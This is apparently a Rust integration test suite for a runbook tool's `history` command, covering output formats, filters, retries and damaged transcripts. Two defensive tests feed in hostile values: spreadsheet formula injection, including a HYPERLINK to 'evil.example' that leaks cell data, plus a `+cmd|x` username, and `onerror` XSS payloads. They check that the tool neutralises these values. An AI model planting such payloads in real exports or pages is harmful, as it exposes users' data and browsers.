//! `runsheet history` through the real binary: real runs of a runbook that
//! changes between them, every format, the filters, and bad input.

use crate::common::{RUNBOOK, Sandbox, Test, unindent};

/// A runbook whose runs can be made slower (`WARM`) and failing (a file
/// `api-down`).
pub const DEPLOY: &str = "
    # Deploy

    - [ ] Warm the cache
      ```bash {name=warm}
      sleep \"${WARM:-0}\"
      echo warmed
      ```
    - [ ] Check the API
      ```bash {name=api}
      if [ -e api-down ]; then echo 'api: 503 Service Unavailable'; exit 1; fi
      echo 'api: 200 OK'
      ```
    - [ ] Tell #ops
    ";

/// Four runs of `DEPLOY` into `runs/`: a good one, a slow one, two with the
/// API down; before the fourth the runbook gains a step and one is reworded.
pub fn four_runs() -> Sandbox {
    let out = Test::new()
        .runbook(unindent(DEPLOY))
        .file("runs/.keep", "")
        .args(["run", "--yes", RUNBOOK, "-o", "runs/run-1.md"])
        .status(3)
        .run();
    let out = out
        .then()
        .args(["run", "--yes", RUNBOOK, "-o", "runs/run-2.md"])
        .env("WARM", "1.1")
        .status(3)
        .run();
    out.write("api-down", "");
    let keep_going = ["run", "--yes", "--keep-going", RUNBOOK];
    let out = out
        .then()
        .args(keep_going)
        .args(["-o", "runs/run-3.md"])
        .status(1)
        .run();
    let changed = unindent(DEPLOY)
        .replace("- [ ] Tell #ops", "- [ ] Tell #ops and #support")
        .replace(
            "- [ ] Check the API",
            "- [ ] Drain the queue\n  ```bash {name=drain}\n  echo drained\n  ```\n- [ ] Check the API",
        );
    out.write(RUNBOOK, changed);
    out.then()
        .args(keep_going)
        .args(["-o", "runs/run-4.md"])
        .status(1)
        .run()
        .sandbox
}

/// The line of `text` that contains `needle`.
fn line<'a>(text: &'a str, needle: &str) -> &'a str {
    text.lines()
        .find(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("no line with {needle:?} in:\n{text}"))
}

#[test]
fn the_table_has_a_row_a_step_a_column_a_run_and_the_trend() {
    let out = four_runs()
        .test()
        .args(["history", "runs"])
        .env("COLUMNS", "200")
        .run();
    let text = &out.stdout;
    assert!(text.starts_with("runbook.md · 4 runs · "), "{text}");
    assert!(text.contains("· 2 versions of the runbook"), "{text}");
    let head = line(text, "step ");
    for (n, h) in ["#1", "#2", "#3", "#4", "p50", "p90", "slowest", "failed"]
        .iter()
        .enumerate()
    {
        assert!(head.contains(h), "no {h} (column {n}) in {head:?}");
    }
    // The slow run is the slowest, at over a second.
    let warm = line(text, "Deploy › Warm the cache › `warm`");
    assert!(warm.contains("✓ 1."), "{warm}");
    assert!(warm.contains("#2"), "{warm}");
    // Failed in the last two runs, counted.
    let api = line(text, "Check the API › `api`");
    assert_eq!(api.matches('✗').count(), 2, "{api}");
    assert!(api.trim_end().ends_with('2'), "{api}");
    // A step new in the fourth run is one row, blank before it.
    let drain = line(text, "Drain the queue");
    assert_eq!(drain.matches('✓').count(), 1, "{drain}");
    // The reworded task is the same row as before, not a second one.
    let table = &text[..text.find("\n\n").expect("the table ends")];
    assert_eq!(table.matches("Tell #ops").count(), 1, "{text}");
    let tell = line(text, "Tell #ops and #support");
    assert_eq!(tell.matches('?').count(), 4, "{tell}");
    // The runs, who ran them, and what stands out.
    assert!(line(text, "#3   2").contains("failed · "), "{text}");
    assert!(line(text, "#3   2").contains("runs/run-3.md"), "{text}");
    assert!(
        text.contains("Failed in more than one run:\n  Deploy › Check the API › `api` (2 runs)"),
        "{text}"
    );
    assert!(text.contains("Skipped or not confirmed in more than one run:\n  Deploy › Tell #ops and #support (0 skipped, 4 not confirmed)"), "{text}");
    assert!(text.contains("Who ran it:\n  "), "{text}");
    assert!(text.contains(": 4 runs, 2 failed, last "), "{text}");
}

#[test]
fn a_narrow_terminal_drops_the_oldest_runs_first() {
    let out = four_runs()
        .test()
        .args(["history", "runs"])
        .env("COLUMNS", "72")
        .run();
    let text = &out.stdout;
    let head = line(text, "step ");
    assert!(head.contains("#4") && !head.contains("#1"), "{text}");
    assert!(
        text.contains("older runs not shown") || text.contains("older run not shown"),
        "{text}"
    );
    for l in text.lines().skip(2).take_while(|l| !l.is_empty()) {
        assert!(l.chars().count() <= 72, "wider than 72: {l:?}\n{text}");
    }
}

#[test]
fn markdown_json_and_csv_hold_the_same_runs() {
    let sandbox = four_runs();
    let md = sandbox
        .test()
        .args(["history", "--format", "markdown", "runs"])
        .run();
    assert!(
        md.stdout.starts_with("## runbook.md · 4 runs · "),
        "{}",
        md.stdout
    );
    assert!(
        md.stdout
            .contains("| step | #1 | #2 | #3 | #4 | p50 | p90 | slowest | failed |"),
        "{}",
        md.stdout
    );
    assert!(md.stdout.contains("| #3 | "), "{}", md.stdout);

    let json = md
        .then()
        .args(["history", "--format", "json", "runs"])
        .run();
    let doc: serde_json::Value = serde_json::from_str(&json.stdout).expect("JSON");
    let h = &doc[0];
    assert_eq!(h["runbook"], "runbook.md");
    assert_eq!(h["runs"].as_array().map(Vec::len), Some(4));
    assert_eq!(h["runs"][2]["result"], "failed");
    assert_eq!(h["runs"][2]["failures"][0]["exit"], 1);
    assert!(
        h["runs"][2]["failures"][0]["output"]
            .as_str()
            .is_some_and(|o| o.contains("503 Service Unavailable")),
        "{h}"
    );
    let rows = h["rows"].as_array().expect("rows");
    let api = rows
        .iter()
        .find(|r| r["name"] == "api")
        .expect("the api row");
    assert_eq!(api["trend"]["failed"], 2);
    assert_eq!(api["cells"].as_array().map(Vec::len), Some(4));
    let drain = rows.iter().find(|r| r["name"] == "drain").expect("drain");
    assert_eq!(drain["cells"][0], serde_json::Value::Null);

    let csv = json
        .then()
        .args(["history", "--format", "csv", "runs"])
        .run();
    let lines: Vec<&str> = csv.stdout.lines().collect();
    assert_eq!(
        lines[0],
        "runbook,run,started,operator,env,transcript,step,kind,status,duration_ms,answer_from,attempts,earlier"
    );
    // Three steps in the first three runs, four in the last.
    assert_eq!(lines.len(), 1 + 3 * 3 + 4, "{}", csv.stdout);
    assert!(
        lines
            .iter()
            .any(|l| l.contains("runs/run-3.md,Deploy › Check the API › `api`,command,failed,")),
        "{}",
        csv.stdout
    );
}

#[test]
fn filters_keep_the_runs_and_steps_asked_for() {
    let sandbox = four_runs();
    let last = sandbox
        .test()
        .args([
            "history", "--format", "json", "--last", "2", "--step", "API", "runs",
        ])
        .run();
    let doc: serde_json::Value = serde_json::from_str(&last.stdout).expect("JSON");
    let runs: Vec<&str> = doc[0]["runs"]
        .as_array()
        .expect("runs")
        .iter()
        .filter_map(|r| r["transcript"].as_str())
        .collect();
    assert_eq!(runs, ["runs/run-3.md", "runs/run-4.md"]);
    let rows = doc[0]["rows"].as_array().expect("rows");
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0]["name"], "api");

    last.then()
        .args(["history", "--since", "2999-01-01", "runs"])
        .status(2)
        .stderr_contains("no run started on or after --since")
        .run()
        .then()
        .args(["history", "--since", "last tuesday", "runs"])
        .status(2)
        .stderr_contains("write it like 2026-11-01")
        .run()
        .then()
        .args([
            "history",
            "--since",
            "2000-01-01",
            "--format",
            "json",
            "runs",
        ])
        .stdout_contains("\"transcript\": \"runs/run-1.md\"")
        .run();
}

#[test]
fn runs_of_two_runbooks_are_told_apart() {
    let sandbox = four_runs();
    let other = sandbox
        .test()
        .file("other.md", "# Other\n\n```bash\necho other\n```\n")
        .args(["run", "--yes", "other.md", "-o", "runs/other-1.md"])
        .run();
    let both = other
        .then()
        .args(["history", "runs"])
        .stderr_contains(
            "the transcripts are runs of 2 runbooks (other.md (1 run), runbook.md (4 runs))",
        )
        .stderr_contains("--runbook NAME shows one")
        .run();
    assert!(both.stdout.contains("other.md · 1 run"), "{}", both.stdout);
    assert!(
        both.stdout.contains("runbook.md · 4 runs"),
        "{}",
        both.stdout
    );
    let one = both
        .then()
        .args(["history", "--runbook", "other.md", "runs"])
        .run();
    assert!(one.stdout.starts_with("other.md · 1 run"), "{}", one.stdout);
    assert!(!one.stdout.contains("runbook.md"), "{}", one.stdout);
    one.then()
        .args(["history", "--runbook", "nothing.md", "runs"])
        .status(2)
        .stderr_contains("no run of a runbook named `nothing.md`; the transcripts are runs of other.md (1 run), runbook.md (4 runs)")
        .run();
}

#[test]
fn damaged_and_foreign_files_are_named_and_the_rest_reported() {
    let sandbox = four_runs();
    let good = sandbox.read("runs/run-2.md");
    // A region closed as something else: its markers are damaged.
    assert!(good.contains("<!--/rs:out-->"), "{good}");
    sandbox.write(
        "runs/run-5.md",
        good.replacen("<!--/rs:out-->", "<!--/rs:task-->", 1),
    );
    sandbox.write("runs/notes.md", "# Notes\n\nNot a transcript.\n");
    sandbox.write("runs/image.png", [0u8, 1, 2]);
    let out = sandbox
        .test()
        .args(["history", "--format", "json", "runs"])
        .stderr_contains("note: runs/notes.md: not a runsheet transcript, skipped")
        .stderr_contains("runs/run-5.md")
        .stderr_contains("this transcript is skipped; the others are shown")
        .stderr_lacks("image.png")
        .run();
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).expect("JSON");
    assert_eq!(doc[0]["runs"].as_array().map(Vec::len), Some(4));
}

#[test]
fn no_transcripts_is_a_clear_error() {
    let sandbox = Sandbox::new();
    sandbox.write("empty/notes.md", "# Notes\n");
    sandbox
        .test()
        .args(["history", "empty"])
        .status(2)
        .stderr_contains("error: no runsheet transcripts in empty (1 Markdown file looked at)")
        .run()
        .then()
        .args(["history", "missing"])
        .status(2)
        .stderr_contains("cannot read missing")
        .run();
}

/// The repository's example transcripts: real runs of `runbooks/health-check.md`.
#[test]
fn the_example_transcripts_are_real_runs_and_the_book_shows_their_history() {
    let repo = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let runbook = std::fs::read_to_string(repo.join("runbooks/health-check.md")).expect("runbook");
    let sandbox = Sandbox::new();
    let mut names: Vec<String> = std::fs::read_dir(repo.join("runbooks/history"))
        .expect("runbooks/history")
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|n| n.ends_with(".run.md"))
        .collect();
    names.sort();
    assert_eq!(names.len(), 7, "{names:?}");
    for name in &names {
        let text = std::fs::read(repo.join("runbooks/history").join(name)).expect("read");
        sandbox.write(&format!("runbooks/history/{name}"), &text);
    }
    sandbox.write("runbooks/health-check.md", &runbook);
    let mut out = Test::in_sandbox(sandbox);
    for name in &names {
        // Each gives back the runbook byte for byte: what it recorded ran.
        let strip = out
            .args(["strip", &format!("runbooks/history/{name}")])
            .run();
        assert_eq!(strip.stdout, runbook, "{name}");
        out = strip.then();
    }
    let table = out
        .args(["history", "runbooks/history/"])
        .env("COLUMNS", "130")
        .run();
    assert!(
        table.stdout.contains("runbooks/health-check.md · 7 runs"),
        "{}",
        table.stdout
    );
    let page = std::fs::read_to_string(repo.join("book/src/diff-and-reports.md")).expect("book");
    let start = page
        .find("<!-- history-table:begin -->\n```text\n")
        .expect("the book's table");
    let block = &page[start..];
    let block = &block[block.find("```text\n").expect("fence") + 8..];
    let block = &block[..block.find("```\n").expect("fence end")];
    assert_eq!(
        block, table.stdout,
        "the book's history table is not what runsheet prints"
    );
}

/// A runbook whose heading, task and the operator's name are spreadsheet
/// formulas, run once.
fn formula_run() -> Sandbox {
    Test::new()
        .runbook(
            "- [ ] @SUM(1+1) check\n\n\
             # =HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")\n\n\
             - [ ] -2+3 then\n\n\
             ```bash\necho hi\n```\n",
        )
        .env("USER", "+cmd|x")
        .run_yes()
        .status(3)
        .run()
        .sandbox
}

#[test]
fn csv_cells_a_spreadsheet_would_run_as_formulas_are_text() {
    let out = formula_run()
        .test()
        .args(["history", "--format", "csv", crate::common::OUT])
        .run();
    let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("CSV")).collect();
    assert_eq!(rows.len(), 3, "{}", out.stdout);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in\n{}",
                out.stdout
            );
        }
        assert!(row[3].starts_with("'+cmd|x@"), "{}", out.stdout);
    }
    let steps: Vec<&str> = rows.iter().map(|r| &r[6]).collect();
    assert_eq!(steps[0], "'@SUM(1+1) check", "{}", out.stdout);
    assert_eq!(
        steps[1], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\") › -2+3 then",
        "{}",
        out.stdout
    );
}

#[test]
fn markdown_holds_no_html_from_a_transcript() {
    let runbook = "# Deploy\n\n```bash\necho '<img src=x onerror=alert(2)>'; exit 1\n```\n";
    let out = Test::new()
        .runbook(runbook)
        .file("runs/.keep", "")
        .env("USER", "x<img src=x onerror=alert(1)>")
        .args(["run", "--yes", RUNBOOK, "-o", "runs/one.md"])
        .status(1)
        .run();
    let out = out
        .then()
        .env("USER", "x<img src=x onerror=alert(1)>")
        .args(["run", "--yes", RUNBOOK, "-o", "runs/two.md"])
        .status(1)
        .run();
    let md = out
        .then()
        .args(["history", "--format", "markdown", "runs"])
        .run()
        .stdout;
    assert!(!md.contains('<') && !md.contains('>'), "{md}");
    // In the runs table, in who ran it, and in the steps that failed twice.
    assert_eq!(
        md.matches("| x&lt;img src=x onerror=alert(1)&gt;@").count(),
        2,
        "{md}"
    );
    assert!(
        md.contains("Who ran it:\n  - x&lt;img src=x onerror=alert(1)&gt;@"),
        "{md}"
    );
    assert!(
        md.contains("  - Deploy › `echo '&lt;img src=x onerror=alert(2)&gt;'; exit 1` (2 runs)"),
        "{md}"
    );
}

#[test]
fn copies_of_a_transcript_count_as_one_run() {
    let sandbox = four_runs();
    let failed = sandbox.read("runs/run-3.md");
    sandbox.write("runs/z-archive/run-3.md", &failed);
    let out = sandbox
        .test()
        .args(["history", "--format", "json", "runs", "runs/run-4.md"])
        .stderr_contains("note: runs/z-archive/run-3.md: the same run (")
        .stderr_contains(") as runs/run-3.md, left out: a run counts once")
        .stderr_contains("note: runs/run-4.md: the same run (")
        .run();
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).expect("JSON");
    let runs = doc[0]["runs"].as_array().expect("runs");
    let paths: Vec<&str> = runs
        .iter()
        .filter_map(|r| r["transcript"].as_str())
        .collect();
    assert_eq!(
        paths,
        [
            "runs/run-1.md",
            "runs/run-2.md",
            "runs/run-3.md",
            "runs/run-4.md"
        ],
        "{}",
        out.stdout
    );
    let api = doc[0]["rows"]
        .as_array()
        .and_then(|rows| rows.iter().find(|r| r["name"] == "api"))
        .expect("the api row");
    assert_eq!(api["trend"]["failed"], 2, "{}", out.stdout);
    assert_eq!(doc[0]["people"][0]["runs"], 4, "{}", out.stdout);
}

#[test]
fn a_transcript_cut_short_is_shown_as_edited_and_a_whole_copy_wins() {
    let out = crate::report::cut_short()
        .then()
        .args(["history", "--format", "json", "cut.md"])
        .stderr_contains("warning: cut.md: this transcript is not the record its run wrote")
        .stderr_contains("its run is shown as `edited`")
        .run();
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).expect("JSON");
    let run = &doc[0]["runs"][0];
    assert_eq!(run["result"], "edited", "{}", out.stdout);
    assert_eq!(run["intact"], false, "{}", out.stdout);

    let out = out
        .then()
        .args(["history", "--format", "json", "cut.md", crate::common::OUT])
        .stderr_contains("note: cut.md: the same run (")
        .stderr_contains("a run counts once, and this copy is not intact")
        .stderr_lacks("warning")
        .run();
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).expect("JSON");
    let runs = doc[0]["runs"].as_array().expect("runs");
    assert_eq!(runs.len(), 1, "{}", out.stdout);
    assert_eq!(runs[0]["transcript"], crate::common::OUT);
    assert_eq!(runs[0]["result"], "failed", "{}", out.stdout);
    assert_eq!(runs[0]["intact"], true, "{}", out.stdout);
}

/// A deploy whose block fails until its `PASS_AT`-th try (the first, unset),
/// retried twice by its fence, then a task for a person.
const RETRIED: &str = "
    # Deploy

    - [ ] Bring the service up
      ```bash {name=up retries=2}
      n=$(( $(cat tries 2>/dev/null || echo 0) + 1 )); echo \"$n\" > tries
      if [ \"$n\" -lt \"${PASS_AT:-1}\" ]; then echo \"not up yet (try $n)\"; false; fi
      echo up
      ```
    - [ ] Tell #ops
    ";

/// Four runs of `RETRIED` into `runs/`: a clean one; one whose block passed
/// at its third try; one that left the task for a person and was resumed
/// with the answer (carried on, not retried); one whose block failed its
/// three tries, stopped the run, and passed at its fifth on resume.
pub fn retried_runs() -> Sandbox {
    let answers = ["--answers", "answers.yaml"];
    let fresh = |out: crate::common::Output| {
        if out.exists("tries") {
            std::fs::remove_file(out.path("tries")).expect("remove the count of tries");
        }
        out.then()
    };
    let out = Test::new()
        .runbook(unindent(RETRIED))
        .file("answers.yaml", "\"Tell #ops\": done\n")
        .file("runs/.keep", "")
        .args(["run", "--yes", RUNBOOK, "-o", "runs/run-1.md"])
        .args(answers)
        .run();
    let out = fresh(out)
        .args(["run", "--yes", RUNBOOK, "-o", "runs/run-2.md"])
        .args(answers)
        .env("PASS_AT", "3")
        .run();
    let out = fresh(out)
        .args(["run", "--yes", RUNBOOK, "-o", "runs/run-3.md"])
        .status(3)
        .run();
    let out = out
        .then()
        .args(["resume", "--yes", "runs/run-3.md"])
        .args(answers)
        .run();
    let out = fresh(out)
        .args(["run", "--yes", RUNBOOK, "-o", "runs/run-4.md"])
        .args(answers)
        .env("PASS_AT", "5")
        .status(1)
        .run();
    let out = out
        .then()
        .args(["resume", "--yes", "runs/run-4.md"])
        .args(answers)
        .env("PASS_AT", "5")
        .run();
    assert_eq!(out.read("tries"), "5\n", "the block ran five times");
    out.sandbox
}

const UP: &str = "Deploy › Bring the service up › `up`";

#[test]
fn steps_that_took_more_than_one_attempt_are_counted_and_told() {
    let sandbox = retried_runs();
    let out = sandbox
        .test()
        .args(["history", "runs"])
        .env("COLUMNS", "200")
        .run();
    let text = &out.stdout;
    let head = line(text, "step ");
    assert!(head.trim_end().ends_with("failed  retried"), "{text}");
    // Each run's cell says how many attempts the block took, when more than one.
    let up = line(text, &format!("{UP} "));
    assert_eq!(up.matches('×').count(), 2, "{up}");
    assert!(up.contains(" ×3 "), "{up}");
    assert!(up.contains(" ×5 "), "{up}");
    assert!(up.trim_end().ends_with(" 2"), "retried in two runs: {up}");
    // Waiting for a person and resuming is not a retry.
    let tell = line(text, "Deploy › Tell #ops ");
    assert!(!tell.contains('×'), "{tell}");
    assert!(tell.trim_end().ends_with('-'), "{tell}");
    // Each run says how many of its steps were retried, and how much.
    assert!(!line(text, "#1   2").contains("retried"), "{text}");
    assert!(
        line(text, "#2   2").contains(" · 1 step retried (+2 attempts) · "),
        "{text}"
    );
    assert!(!line(text, "#3   2").contains("retried"), "{text}");
    assert!(
        line(text, "#4   2").contains(" · 1 step retried (+4 attempts) · "),
        "{text}"
    );
    // The step, and how its earlier attempts ended in each run.
    let failed = "failed (exit 1)";
    assert!(
        text.contains(&format!(
            "Took more than one attempt:\n  {UP} (#2: 3 attempts (earlier: {failed}, {failed}); \
             #4: 5 attempts (earlier: {failed}, {failed}, {failed}, {failed}))\n"
        )),
        "{text}"
    );

    let md = out
        .then()
        .args(["history", "--format", "markdown", "runs"])
        .run();
    let text = &md.stdout;
    assert!(
        text.contains("| step | #1 | #2 | #3 | #4 | p50 | p90 | slowest | failed | retried |"),
        "{text}"
    );
    assert!(line(text, &format!("| {UP} |")).contains(" ×3 |"), "{text}");
    assert!(
        line(text, "| #4 | 2").contains(", 1 step retried (+4 attempts) |"),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "Took more than one attempt:\n  - {UP} (#2: 3 attempts"
        )),
        "{text}"
    );

    let json = md
        .then()
        .args(["history", "--format", "json", "runs"])
        .run();
    let doc: serde_json::Value = serde_json::from_str(&json.stdout).expect("JSON");
    let h = &doc[0];
    let runs = h["runs"].as_array().expect("runs");
    let counted: Vec<(u64, u64)> = runs
        .iter()
        .map(|r| {
            (
                r["retried"].as_u64().expect("retried"),
                r["extra_attempts"].as_u64().expect("extra_attempts"),
            )
        })
        .collect();
    assert_eq!(counted, [(0, 0), (1, 2), (0, 0), (1, 4)], "{h}");
    let rows = h["rows"].as_array().expect("rows");
    let up = rows.iter().find(|r| r["name"] == "up").expect("the up row");
    assert_eq!(up["trend"]["retried"], 2);
    let attempts: Vec<u64> = (0..4)
        .map(|i| up["cells"][i]["attempts"].as_u64().expect("attempts"))
        .collect();
    assert_eq!(attempts, [1, 3, 1, 5]);
    assert_eq!(
        up["cells"][1]["earlier"],
        serde_json::json!([
            {"status": "failed", "exit": 1},
            {"status": "failed", "exit": 1}
        ])
    );
    assert_eq!(up["cells"][0].get("earlier"), None);
    let tell = rows
        .iter()
        .find(|r| r["label"] == "Deploy › Tell #ops")
        .expect("the task's row");
    assert_eq!(tell["cells"][2]["attempts"], 1, "{tell}");
    assert_eq!(tell["cells"][2].get("earlier"), None, "{tell}");
    assert_eq!(tell["trend"]["retried"], 0);

    let csv = json
        .then()
        .args(["history", "--format", "csv", "runs"])
        .run();
    let lines: Vec<&str> = csv.stdout.lines().collect();
    assert!(
        lines[0].ends_with(",answer_from,attempts,earlier"),
        "{}",
        csv.stdout
    );
    let of = |run: &str| line(&csv.stdout, &format!("runs/{run}.md,{UP},")).to_string();
    assert!(of("run-1").ends_with(",1,"), "{}", csv.stdout);
    assert!(
        of("run-2").ends_with(",3,failed (exit 1); failed (exit 1)"),
        "{}",
        csv.stdout
    );
}

#[test]
fn a_history_with_no_retries_has_no_retried_column() {
    let out = four_runs()
        .test()
        .args(["history", "runs"])
        .env("COLUMNS", "200")
        .run();
    let text = &out.stdout;
    assert!(!text.contains("retried"), "{text}");
    assert!(!text.contains('×'), "{text}");
    assert!(!text.contains("more than one attempt"), "{text}");
}

/// A deploy with two blocks retried by their fences: `up` fails until its
/// `UP_AT`-th try, `warm` until its `WARM_AT`-th (the first, unset).
const TWO_RETRIED: &str = "
    # Deploy

    - [ ] Bring the service up
      ```bash {name=up retries=2}
      n=$(( $(cat up-tries 2>/dev/null || echo 0) + 1 )); echo \"$n\" > up-tries
      if [ \"$n\" -lt \"${UP_AT:-1}\" ]; then echo \"not up yet (try $n)\"; false; fi
      echo up
      ```
    - [ ] Warm the cache
      ```bash {name=warm retries=1}
      n=$(( $(cat warm-tries 2>/dev/null || echo 0) + 1 )); echo \"$n\" > warm-tries
      if [ \"$n\" -lt \"${WARM_AT:-1}\" ]; then echo \"cold (try $n)\"; false; fi
      echo warm
      ```
    ";

/// Two runs of `TWO_RETRIED` into `runs/`: in the first both blocks were
/// retried (`up` at its third try, `warm` at its second); in the second
/// only `warm` was.
pub fn two_retried_runs() -> Sandbox {
    let out = Test::new()
        .runbook(unindent(TWO_RETRIED))
        .file("runs/.keep", "")
        .args(["run", "--yes", RUNBOOK, "-o", "runs/run-1.md"])
        .env("UP_AT", "3")
        .env("WARM_AT", "2")
        .run();
    assert_eq!(out.read("up-tries"), "3\n", "up ran three times");
    assert_eq!(out.read("warm-tries"), "2\n", "warm ran twice");
    for tries in ["up-tries", "warm-tries"] {
        std::fs::remove_file(out.path(tries)).expect("remove the count of tries");
    }
    let out = out
        .then()
        .args(["run", "--yes", RUNBOOK, "-o", "runs/run-2.md"])
        .env("WARM_AT", "2")
        .run();
    assert_eq!(out.read("up-tries"), "1\n", "up ran once");
    assert_eq!(out.read("warm-tries"), "2\n", "warm ran twice");
    out.sandbox
}

#[test]
fn a_runs_retried_steps_are_counted_among_the_steps_step_keeps() {
    let sandbox = two_retried_runs();
    // Every step: both retried in the first run, one in the second.
    let all = sandbox
        .test()
        .args(["history", "runs"])
        .env("COLUMNS", "200")
        .run();
    let text = &all.stdout;
    assert!(
        line(text, "#1   2").contains(" · 2 steps retried (+3 attempts) · "),
        "{text}"
    );
    assert!(
        line(text, "#2   2").contains(" · 1 step retried (+1 attempt) · "),
        "{text}"
    );

    // `--step up`: the run counts `up` alone, in every format.
    let up = all
        .then()
        .args(["history", "--step", "up", "runs"])
        .env("COLUMNS", "200")
        .run();
    let text = &up.stdout;
    assert!(!text.contains("`warm`"), "{text}");
    assert!(
        line(text, "#1   2").contains(" · 1 step retried (+2 attempts) · "),
        "{text}"
    );
    assert!(!line(text, "#2   2").contains("retried"), "{text}");

    let md = up
        .then()
        .args(["history", "--step", "up", "--format", "markdown", "runs"])
        .run();
    let text = &md.stdout;
    assert!(
        line(text, "| #1 | 2").contains(", 1 step retried (+2 attempts) |"),
        "{text}"
    );
    assert!(!line(text, "| #2 | 2").contains("retried"), "{text}");

    let json = |out: crate::common::Output, step: &str| {
        let out = out
            .then()
            .args(["history", "--step", step, "--format", "json", "runs"])
            .run();
        let doc: serde_json::Value = serde_json::from_str(&out.stdout).expect("JSON");
        let counted: Vec<(u64, u64)> = doc[0]["runs"]
            .as_array()
            .expect("runs")
            .iter()
            .map(|r| {
                (
                    r["retried"].as_u64().expect("retried"),
                    r["extra_attempts"].as_u64().expect("extra_attempts"),
                )
            })
            .collect();
        (out, counted)
    };
    let (out, counted) = json(md, "up");
    assert_eq!(counted, [(1, 2), (0, 0)], "{}", out.stdout);
    let (out, counted) = json(out, "WARM");
    assert_eq!(counted, [(1, 1), (1, 1)], "{}", out.stdout);
    // A pattern every step matches: the whole run's count.
    let (out, counted) = json(out, "Deploy");
    assert_eq!(counted, [(2, 3), (1, 1)], "{}", out.stdout);

    // CSV has a line a step of a run: `--step` keeps only its lines, and
    // their attempts.
    let csv = out
        .then()
        .args(["history", "--step", "warm", "--format", "csv", "runs"])
        .run();
    let lines: Vec<&str> = csv.stdout.lines().skip(1).collect();
    assert_eq!(lines.len(), 2, "{}", csv.stdout);
    for l in lines {
        assert!(l.contains("`warm`,command,done,"), "{}", csv.stdout);
        assert!(l.ends_with(",2,failed (exit 1)"), "{}", csv.stdout);
    }
}

/// The failures `--format json` lists for each run, as `(step, exit)`.
fn failures(json: &str) -> Vec<Vec<(String, i64)>> {
    let doc: serde_json::Value = serde_json::from_str(json).expect("JSON");
    doc[0]["runs"]
        .as_array()
        .expect("runs")
        .iter()
        .map(|r| {
            r["failures"]
                .as_array()
                .map(|f| {
                    f.iter()
                        .map(|f| {
                            let step = f["step"].as_str().expect("step").to_string();
                            (step, f["exit"].as_i64().expect("exit"))
                        })
                        .collect()
                })
                .unwrap_or_default()
        })
        .collect()
}

/// What every format says of a history `--step` narrowed.
const NARROWED: &str = "Only the steps whose label contains \"warm\": a run's failures and \
                        retried steps are of these steps; its result and counts are the whole run's.";

#[test]
fn a_runs_failures_are_those_of_the_steps_step_keeps() {
    let sandbox = four_runs();
    let api = "Deploy › Check the API › `api`".to_string();
    // Every step: the API failed in the last two runs.
    let all = sandbox
        .test()
        .args(["history", "--format", "json", "runs"])
        .run();
    let failed = vec![(api.clone(), 1)];
    assert_eq!(
        failures(&all.stdout),
        [vec![], vec![], failed.clone(), failed.clone()]
    );
    let doc: serde_json::Value = serde_json::from_str(&all.stdout).expect("JSON");
    assert!(doc[0].get("step").is_none(), "{}", all.stdout);

    // `--step warm`: the runs failed, but not at `warm`.
    let warm = all
        .then()
        .args(["history", "--format", "json", "--step", "warm", "runs"])
        .run();
    assert_eq!(failures(&warm.stdout), vec![vec![]; 4], "{}", warm.stdout);
    let doc: serde_json::Value = serde_json::from_str(&warm.stdout).expect("JSON");
    assert_eq!(doc[0]["step"], "warm");
    // The result is still the whole run's, as the text says.
    assert_eq!(doc[0]["runs"][2]["result"], "failed");
    assert_eq!(doc[0]["runs"][2]["counts"]["failed"], 1);

    // `--step api`: the failure is the step's own.
    let one = warm
        .then()
        .args(["history", "--format", "json", "--step", "api", "runs"])
        .run();
    assert_eq!(
        failures(&one.stdout),
        [vec![], vec![], failed.clone(), failed]
    );

    // The table and Markdown say what the failures and results are of.
    let table = one
        .then()
        .args(["history", "--step", "warm", "runs"])
        .env("COLUMNS", "200")
        .run();
    let text = &table.stdout;
    assert_eq!(text.lines().nth(1), Some(NARROWED), "{text}");
    assert!(line(text, "#3   2").contains(" · failed · "), "{text}");
    let md = table
        .then()
        .args(["history", "--step", "warm", "--format", "markdown", "runs"])
        .run();
    assert!(
        md.stdout.contains(&format!("\n\n{NARROWED}\n\n| step |")),
        "{}",
        md.stdout
    );
    let whole = md
        .then()
        .args(["history", "--format", "markdown", "runs"])
        .run();
    assert!(!whole.stdout.contains("Only the steps"), "{}", whole.stdout);
    let whole = whole
        .then()
        .args(["history", "runs"])
        .env("COLUMNS", "200")
        .run();
    assert!(!whole.stdout.contains("Only the steps"), "{}", whole.stdout);

    // CSV has a line a step of a run: the failed `api` is not among them.
    let csv = whole
        .then()
        .args(["history", "--step", "warm", "--format", "csv", "runs"])
        .run();
    let lines: Vec<&str> = csv.stdout.lines().skip(1).collect();
    assert_eq!(lines.len(), 4, "{}", csv.stdout);
    assert!(
        lines.iter().all(|l| l.contains("`warm`,command,done,")),
        "{}",
        csv.stdout
    );
}
